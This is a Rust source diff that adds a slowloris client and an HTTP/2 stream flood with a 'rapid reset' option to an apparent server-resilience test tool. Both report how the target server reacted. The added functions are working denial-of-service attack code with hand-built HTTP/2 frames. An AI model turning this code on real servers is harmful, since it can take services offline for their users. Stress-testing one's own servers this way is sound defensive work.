@@ -61,6 +61,32 @@ enum Cmd {
         #[arg(long)]
         silent_ms: Option<u64>,
     },
+    /// A slow client (slowloris): open COUNT connections, start an HTTP/1.1
+    /// request on each and send one more header line every second, never
+    /// ending the headers, for FOR_MS; report how many the server closed
+    /// and when.
+    Slowloris {
+        #[arg(long)]
+        target: String,
+        #[arg(long)]
+        count: usize,
+        #[arg(long)]
+        for_ms: u64,
+    },
+    /// An HTTP/2 stream flood (cleartext, prior knowledge): open STREAMS
+    /// request streams on one connection at once without ending any (or,
+    /// with --reset, reset each right away: "rapid reset"); report what
+    /// the server answered (its stream limit, refused streams, GOAWAY).
+    H2Flood {
+        #[arg(long)]
+        target: String,
+        #[arg(long)]
+        authority: String,
+        #[arg(long)]
+        streams: u32,
+        #[arg(long)]
+        reset: bool,
+    },
     /// Try to bind the port; print whether that worked as JSON.
     Bind {
         #[arg(long)]
@@ -484,10 +510,6 @@ fn read_request(s: &mut TcpStream) -> Option<Req> {
     Some(Req { line: first.trim().to_owned(), headers })
 }
 
-fn respond(s: &mut TcpStream, status: &str, body: &str) {
-    respond_conn(s, status, body, false);
-}
-
 fn respond_conn(s: &mut TcpStream, status: &str, body: &str, keep_alive: bool) {
     let connection = if keep_alive { "" } else { "Connection: close\r\n" };
     let _ = write!(s, "HTTP/1.1 {status}\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n{connection}\r\n{body}", body.len());
@@ -724,12 +746,157 @@ fn hold(target: &str, count: usize, silent_ms: Option<u64>) -> ExitCode {
     ExitCode::SUCCESS
 }
 
+/// See `Cmd::Slowloris`.
+fn slowloris(target: &str, count: usize, for_ms: u64) -> ExitCode {
+    let start = std::time::Instant::now();
+    let mut conns: Vec<(TcpStream, Option<u64>)> = Vec::new();
+    for _ in 0..count {
+        if let Ok(mut s) = TcpStream::connect(target) {
+            if s.write_all(b"GET / HTTP/1.1\r\nHost: slow\r\n").is_ok() {
+                let _ = s.set_nonblocking(true);
+                conns.push((s, None));
+            }
+        }
+    }
+    let opened = conns.len();
+    let mut line = 0u64;
+    let mut answers: Vec<String> = Vec::new();
+    while start.elapsed() < Duration::from_millis(for_ms) {
+        thread::sleep(Duration::from_millis(1000));
+        line += 1;
+        let at = start.elapsed().as_millis() as u64;
+        for (s, closed) in conns.iter_mut().filter(|(_, c)| c.is_none()) {
+            // Whatever the server sends (an error response) or a closed
+            // socket ends this connection's attack.
+            let mut buf = [0u8; 512];
+            let gone = match s.read(&mut buf) {
+                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => s.write_all(format!("X-Slow-{line}: 1\r\n").as_bytes()).is_err(),
+                Ok(n) if n > 0 => {
+                    answers.push(String::from_utf8_lossy(&buf[..n]).lines().next().unwrap_or_default().to_owned());
+                    true
+                }
+                _ => true,
+            };
+            if gone {
+                *closed = Some(at);
+            }
+        }
+    }
+    let mut times: Vec<u64> = conns.iter().filter_map(|(_, c)| *c).collect();
+    times.sort();
+    answers.sort();
+    answers.dedup();
+    log(json!({
+        "opened": opened,
+        "closed_by_server": times.len(),
+        "first_close_ms": times.first(),
+        "median_close_ms": times.get(times.len() / 2),
+        "last_close_ms": times.last(),
+        "answers": answers,
+    }));
+    ExitCode::SUCCESS
+}
+
+/// One HTTP/2 frame header and payload.
+fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let mut f = Vec::with_capacity(9 + payload.len());
+    f.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
+    f.extend_from_slice(&[kind, flags]);
+    f.extend_from_slice(&stream.to_be_bytes());
+    f.extend_from_slice(payload);
+    f
+}
+
+/// See `Cmd::H2Flood`.
+fn h2_flood(target: &str, authority: &str, streams: u32, reset: bool) -> ExitCode {
+    let mut s = match TcpStream::connect(target) {
+        Ok(s) => s,
+        Err(e) => {
+            log(json!({"error": format!("connect {target}: {e}")}));
+            return ExitCode::FAILURE;
+        }
+    };
+    // HPACK from the static table: :method GET, :scheme http, :path /,
+    // and :authority as a literal without indexing.
+    let mut block = vec![0x82, 0x86, 0x84, 0x01, authority.len() as u8];
+    block.extend_from_slice(authority.as_bytes());
+    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    out.extend(h2_frame(0x4, 0, 0, &[]));
+    for i in 0..streams {
+        let id = 1 + 2 * i;
+        out.extend(h2_frame(0x1, 0x4, id, &block));
+        if reset {
+            out.extend(h2_frame(0x3, 0, id, &0x8u32.to_be_bytes()));
+        }
+    }
+    let written = s.write_all(&out).is_ok();
+    // Read what the server says for a while.
+    let _ = s.set_read_timeout(Some(Duration::from_millis(200)));
+    let deadline = std::time::Instant::now() + Duration::from_secs(5);
+    let mut buf = Vec::new();
+    let mut chunk = [0u8; 16384];
+    let mut closed = false;
+    while std::time::Instant::now() < deadline {
+        match s.read(&mut chunk) {
+            Ok(0) => {
+                closed = true;
+                break;
+            }
+            Ok(n) => buf.extend_from_slice(&chunk[..n]),
+            Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => {}
+            Err(_) => {
+                closed = true;
+                break;
+            }
+        }
+    }
+    let (mut max_streams, mut refused, mut other_resets, mut goaway, mut responses) = (None, 0u32, 0u32, None, 0u32);
+    let mut at = 0;
+    while at + 9 <= buf.len() {
+        let len = u32::from_be_bytes([0, buf[at], buf[at + 1], buf[at + 2]]) as usize;
+        let (kind, flags) = (buf[at + 3], buf[at + 4]);
+        let Some(payload) = buf.get(at + 9..at + 9 + len) else { break };
+        match kind {
+            0x4 if flags & 1 == 0 => {
+                for p in payload.chunks_exact(6) {
+                    if u16::from_be_bytes([p[0], p[1]]) == 0x3 {
+                        max_streams = Some(u32::from_be_bytes([p[2], p[3], p[4], p[5]]));
+                    }
+                }
+            }
+            0x1 => responses += 1,
+            0x3 if payload.len() == 4 => {
+                if u32::from_be_bytes([payload[0], payload[1], payload[2], payload[3]]) == 0x7 {
+                    refused += 1;
+                } else {
+                    other_resets += 1;
+                }
+            }
+            0x7 if payload.len() >= 8 => goaway = Some(u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]])),
+            _ => {}
+        }
+        at += 9 + len;
+    }
+    log(json!({
+        "written": written,
+        "server_max_concurrent_streams": max_streams,
+        "refused_streams": refused,
+        "other_resets": other_resets,
+        "responses": responses,
+        "goaway_error": goaway,
+        "closed": closed,
+    }));
+    ExitCode::SUCCESS
+}
+
 fn main() -> ExitCode {
     // Many connections at once (hold, the echo server) need more than the
     // usual 1024 descriptors.
     let _ = skiff_core::raise_open_file_limit();
     match Cli::parse().cmd {
         Cmd::Hold { target, count, silent_ms } => hold(&target, count, silent_ms),
+        Cmd::Slowloris { target, count, for_ms } => slowloris(&target, count, for_ms),
+        Cmd::H2Flood { target, authority, streams, reset } => h2_flood(&target, &authority, streams, reset),
         Cmd::EchoServer { port } => echo_server(port),
         Cmd::Client { target, message, hold_ms, stream_ms } => {
             client(&target, &message, Duration::from_millis(hold_ms), Duration::from_millis(stream_ms))
